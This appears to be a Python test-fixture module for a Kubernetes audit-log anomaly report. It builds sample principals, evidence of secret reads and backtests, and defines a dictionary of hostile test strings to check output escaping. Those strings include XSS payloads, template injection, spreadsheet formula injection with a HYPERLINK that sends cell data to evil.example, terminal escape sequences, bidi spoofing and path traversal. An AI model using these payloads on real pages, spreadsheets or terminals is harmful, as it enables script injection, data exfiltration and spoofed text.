"""Nights for the report tests: calm defaults, every field to be overridden by name."""

from collections.abc import Sequence
from dataclasses import fields
from datetime import UTC, date, datetime
from typing import Any

from pipelines.report.backtest import BackTest, Group, NotPossible
from pipelines.report.detail import Binding, Detail, Hour, NewItem, NewThings, Request
from pipelines.report.earlier import EarlierNight
from pipelines.report.model import (
    Begun,
    Counterfactual,
    Coverage,
    Evidence,
    Newcomer,
    Night,
    Places,
    RankedPrincipal,
    Reason,
    Together,
)

HOSTILE = {
    "img": "<img src=x onerror=alert(1)>",
    "script": "</script><script>alert(1)</script>",
    "style": "</style><style>*{display:none}</style>",
    "attribute": '" onmouseover="alert(1)" x="',
    "single-quote": "' autofocus onfocus='alert(1)",
    "comment": "--><b>out</b><!--",
    "entity": "&lt;b&gt;&#x3c;i&#x3e;",
    "template": "{{ 7 * 7 }}{% raw %}",
    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(1)",
    "tab": "\t=1",
    "cr": "\r=1",
    "space-formula": "  =1",
    "line-break": "a,b\n=1",
    "separator": "a;=1",
    "quote": '",=1,"',
    "full-width-sign": "\uff1d1",
    "bidi": "\u202etxt.exe",
    "isolate": "\u2066a\u2069",
    "zero-width": "ad\u200bmin",
    "filler": "ad\u3164min",
    "line-separator": "a\u2028b\u2029c",
    "escape": "\x1b[2Jgone",
    "osc": "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "c1": "\x9b31mred",
    "del": "\x7f",
    "nul": "a\x00b",
    "surrogate": "\ud800",
    "private": "\ue000",
    "unassigned": "\U000e0fff",
    "long": "A" * 65_536,
    "long-controls": "\x1b" * 65_536,
    "empty": "",
    "spaces": "   ",
    "full-width": "\uff41\uff44\uff4d\uff49\uff4e",
    "path": "../../etc",
    "hive": "a=b",
    "percent": "%2F..",
    "markup": "[bold]x[/bold]",
    "markup-link": "[link=https://evil.example]x[/link]",
    "markup-broken": "[/]",
    "url": "https://evil.example/",
}


def reason(**changes: Any) -> Reason:
    """41 secrets read, by one who reads none."""
    return Reason(
        **{
            "feature": "secret_reads",
            "meaning": "Secrets read, listed or watched with success.",
            "unit": "requests",
            "value": 41,
            "expected": 0.02,
            "usual": 0.0,
            "usual_low": 0.0,
            "usual_high": 0.0,
            "peers_low": 0.0,
            "peers_high": 2.0,
            "surprise": 3.5,
            "share": 0.72,
        }
        | changes
    )


def evidence(**changes: Any) -> Evidence:
    """The first two of 41 requests, within one minute."""
    ids = ("7e1f0a52-36a5-4b5c-9d57-1c2a5d1f0001", "7e1f0a52-36a5-4b5c-9d57-1c2a5d1f0002")
    return Evidence(
        **{
            "feature": "secret_reads",
            "requests": 41,
            "audit_ids": ids,
            "times": (AT,) * len(changes.get("audit_ids", ids)),
            "first_ts": datetime(2026, 11, 22, 3, 12, 7, 250_000, tzinfo=UTC),
            "last_ts": datetime(2026, 11, 22, 3, 12, 59, tzinfo=UTC),
        }
        | changes
    )


AT = datetime(2026, 11, 22, 3, 12, 7, 250_000, tzinfo=UTC)


def request(**changes: Any) -> Request:
    """A secret, read."""
    return Request(
        **{
            "audit_id": "7e1f0a52-36a5-4b5c-9d57-1c2a5d1f0001",
            "ts": AT,
            "verb": "get",
            "object": "secrets",
            "namespace": "shop",
            "name": "db-password",
            "request_uri": "/api/v1/namespaces/shop/secrets/db-password",
            "code": 200,
            "alike": 1,
            "address": "203.0.113.7",
            "agent": "kubectl/v1.31.0 (linux/amd64)",
        }
        | changes
    )


def detail(**changes: Any) -> Detail:
    """Two hours, a new address and 9 new secrets, one binding, one request."""
    return Detail(
        **{
            "hours": (Hour(3, 41, 2, 0), Hour(14, 360, 0, 9)),
            "new": (
                NewThings("address", 1, (NewItem("203.0.113.7", AT, "cluster"),)),
                NewThings("secret", 9, (NewItem("shop/db-password", AT, "peers"),)),
            ),
            "bindings": (Binding("debug-admin of cluster-admin", 400),),
            "bindings_used": 3,
            "requests": (request(),),
        }
        | changes
    )


def ranked(rank: int = 1, **changes: Any) -> RankedPrincipal:
    """A person with one reason and its evidence."""
    return RankedPrincipal(
        **{
            "rank": rank,
            "rank_lo": rank,
            "rank_hi": rank + 1,
            "principal": "role/dev-eve",
            "usernames": ("role/dev-eve",),
            "type": "person",
            "peer_group": "person",
            "requests": 412,
            "score": 120.5 / rank,
            "codisp": 12.05,
            "norm": 10.0 / rank,
            "aws_score": 1.25,
            "one_in": 3_500.0,
            "reasons": (reason(),),
            "counterfactual": Counterfactual("secret_reads", "requests", 41, 0, 38, 38, 1.5),
            "strange_nights": 1,
            "together": None,
            "places": Places(rank, rank, rank),
            "newcomer": None,
            "evidence": (evidence(),),
            "detail": detail(),
            "marks": (),
            "first_seen": date(2026, 11, 1),
            "history_nights": 7,
        }
        | changes
    )


def coverage(**changes: Any) -> Coverage:
    """A whole day that adds up."""
    return Coverage(
        **{
            "read": 1_000,
            "archived": 900,
            "duplicate": 60,
            "quarantined": 30,
            "outside": 10,
            "collisions": 0,
            "truncated": 0,
            "mistyped": 0,
            "hours_seen": tuple(range(24)),
            "gaps": (),
            "blind": (),
        }
        | changes
    )


def night(*rows: RankedPrincipal, **changes: Any) -> Night:
    """A calm night of one principal, with a full history and nothing to say about it."""
    return Night(
        **{
            "cluster": "prod-usw2",
            "date": date(2026, 11, 22),
            "generation": 1,
            "coverage": coverage(),
            "history_nights": 7,
            "history_expected": 7,
            "ranked": rows or (ranked(),),
            "notices": (),
            "seed": 0,
            "trees": 300,
            "version": "0.1.0",
        }
        | changes
    )


def night_of(text: str, rows: int = 27) -> Night:
    """A night in which every text that can come from a log, or stand beside one, is `text`."""
    everyone = (
        ranked(
            rank,
            principal=text,
            usernames=(text, "role/other"),
            type=text,
            peer_group=text,
            marks=(text,),
            together=Together("address", text, 3),
            newcomer=Newcomer(None, date(2026, 11, 20), (Begun("execs", text, text, 3, 0),)),
            reasons=(reason(meaning=text, unit=text), reason(feature=text)),
            evidence=(evidence(audit_ids=(text, text)), evidence(feature="loose\n" + text)),
            detail=detail_of(text),
        )
        for rank in range(1, rows + 1)
    )
    return night(*everyone, cluster=text, notices=(text,), coverage=coverage(blind=(text,)))


def detail_of(text: str) -> Detail:
    """Details in which every text is `text`."""
    names = (
        *("audit_id", "verb", "object", "namespace", "name"),
        *("request_uri", "address", "agent", "impersonated_user"),
    )
    return detail(
        new=(NewThings("secret", 9, (NewItem(text, AT, "cluster"),)),),
        bindings=(Binding(text, 1),),
        requests=(request(**dict.fromkeys(names, text)), request(object="url", request_uri=text, verb=None)),
    )


def bare(rank: int = 1) -> RankedPrincipal:
    """A principal of whom only what must be known is known."""
    empty = {
        field.name: None
        for field in fields(RankedPrincipal)
        if field.name
        in ("rank_lo", "rank_hi", "aws_score", "one_in", "counterfactual", "places", "detail", "first_seen")
    }
    return ranked(rank, **empty, reasons=(), evidence=(), strange_nights=0, history_nights=0)


def backtest(**changes: Any) -> BackTest:
    """Two kinds, two cases each, by a person and a workload, on one night."""
    shells, listing = [0, 0], [2, 3]
    return BackTest(
        **{
            "cluster": "prod",
            "date": "2026-09-15",
            "generation": 1,
            "nights": ("2026-09-15",),
            "per_kind": 2,
            "seed": 0,
            "trees": 300,
            "version": "0.1.0",
            "attacks": Group.of(shells + listing),
            "names_for_90_percent": 4,
            "kinds": (
                Group.of(listing, "quiet-listing", None, "T1613", "What a cluster holds, listed."),
                Group.of(shells, "shells", None, "T1609", "Shells in pods."),
            ),
            "types": (Group.of([0, 2], None, "person"), Group.of([0, 3], None, "workload")),
            "cells": (Group.of([0], "shells", "person", "T1609", "Shells in pods."),),
            "innocents": (Group.of([7], "busy-day", None, None, "Three times its usual requests."),),
            "not_possible": (NotPossible("new-release", "person", 1, "nobody deploys"),),
            "notices": ("2026-09-15 has 9 principals: hardly anybody can stand above anybody",),
        }
        | changes
    )


def earlier(of: date, rows: Sequence[tuple[str, str, int, float]], generation: int = 1) -> EarlierNight:
    """A night before, of principal, peer group, rank and score, on which everybody's standing is kept."""
    return EarlierNight.of(of, generation, rows, {row[0] for row in rows})
